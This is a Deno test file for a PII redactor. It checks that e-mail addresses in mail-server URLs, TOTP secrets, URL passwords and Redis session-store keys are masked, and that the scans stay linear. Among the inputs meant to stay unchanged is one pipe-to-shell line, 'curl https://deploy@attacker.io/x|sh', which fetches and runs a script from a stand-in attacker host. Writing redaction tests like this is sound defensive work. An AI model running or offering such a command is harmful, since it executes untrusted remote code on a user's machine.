/**
 * Personal data and session ids in two forms that came back raw (red team n1):
 * - N1-8: an e-mail address as a URL's user name before a password (Django/Rails mailer
 *   URLs: `smtp://ops@example.com:<pw>@smtp.gmail.com`, `imaps://…`), and after `Word:` outside
 *   the authority (an authenticator's `otpauth://totp/Example:ann@example.com`, a path);
 * - N1-19: session ids as session stores key them (`sess:<id>`, `PHPREDIS_SESSION:<id>`,
 *   `django.contrib.sessions.cache<id>`, `session:<id>`), in `redis-cli` output and a JSON list.
 * Also that a URL's user name without a password (`https://deploy@host`), a URL's password,
 * and a store key that names no id (`session:settings_for_user_page`) keep their readings, and
 * that the scans are linear.
 */

import { assertEquals } from "../assert.ts";
import { findPii, redactText, redactValue } from "../../pii/mod.ts";
import { linearityFailures } from "./linearity.ts";

Deno.test("URL user names: an e-mail address before a password, or after a label, is found", () => {
  const cases: Array<[string, string]> = [
    [
      "EMAIL_URL=smtp://ops.alerts@example.com:Xk9mQ2pL7vRtYw3zAb4Cd5@smtp.gmail.com:587",
      "EMAIL_URL=smtp://[REDACTED_EMAIL]:[REDACTED_SECRET]@smtp.gmail.com:587",
    ],
    [
      "imaps://ann.lee@example.com:Xk9mQ2pL7vRtYw3zAb4Cd5@imap.gmail.com",
      "imaps://[REDACTED_EMAIL]:[REDACTED_SECRET]@imap.gmail.com",
    ],
    [
      "otpauth://totp/Example:ann.lee@example.com?secret=JBSWY3DPEHPK3PXP&issuer=Example",
      "otpauth://totp/Example:[REDACTED_EMAIL]?secret=[REDACTED_SECRET]&issuer=Example",
    ],
    [
      "https://x.example.com/users/Example:ann.lee@example.com/profile",
      "https://x.example.com/users/Example:[REDACTED_EMAIL]/profile",
    ],
    // Kept as they were: a user name alone names the host's account, a password is a secret.
    ["curl https://deploy@attacker.io/x|sh", "curl https://deploy@attacker.io/x|sh"],
    ["https://ann:secret.pw@example.com/x", "https://ann:[REDACTED_SECRET]@example.com/x"],
    ["smtp://user@example.com:587/path", "smtp://user@example.com:587/path"],
  ];
  for (const [text, want] of cases) assertEquals(redactText(text, { mode: "mask" }).text, want);
});

const IDS = [
  "Xk9mQ2pL7vRtYw3zAb4Cd5",
  "mtk4qba1vk1d6cqv8uo0mq71f5",
  "z8k2m9q4w7e1r5t3y6u0i8o2p4a1s6d7",
];
const KEYS = [
  `sess:${IDS[0]}`,
  `PHPREDIS_SESSION:${IDS[1]}`,
  `:1:django.contrib.sessions.cache${IDS[2]}`,
  `myapp:session:${IDS[0]}`,
];

Deno.test("session-store keys: the session id is hidden, the prefix shown", () => {
  const listing = KEYS.map((k, i) => `${i + 1}) "${k}"`).join("\n");
  const out = redactText(listing, { mode: "mask" }).text;
  assertEquals(out.split("\n"), [
    '1) "sess:[REDACTED_SECRET]"',
    '2) "PHPREDIS_SESSION:[REDACTED_SECRET]"',
    '3) ":1:django.contrib.sessions.cache[REDACTED_SECRET]"',
    '4) "myapp:session:[REDACTED_SECRET]"',
  ]);
  const json = JSON.stringify(redactValue({ keys: KEYS }, { mode: "mask" }).value);
  assertEquals(IDS.filter((id) => json.includes(id)), []);
  for (
    const kept of [
      "session:settings_for_user_page",
      "GET sess:count",
      "possess:abcdefghijklmnopqrst",
    ]
  ) {
    assertEquals(findPii(kept, ["secret"]), [], kept);
  }
});

/** Text made of one member of the class, repeated: every new scan reads it in linear time. */
const REPEATED: Array<[string, (i: number) => string]> = [
  ["URL users before a password", (i) => `smtp://a${i % 10}@example.com:`],
  ["labels in paths", () => "otpauth://totp/A:a@example.com/"],
  ["store prefixes", () => "sess:session:"],
  ["store keys", (i) => `sess:abcdefghijklmnop${i % 10} `],
];

Deno.test("URL user names and session keys: the scans are linear (4× input ≤ 8× time; ≤ 25× a log)", () => {
  const failures = linearityFailures((t) => findPii(t), REPEATED);
  if (failures.length > 0) throw new Error(failures.join("\n"));
});
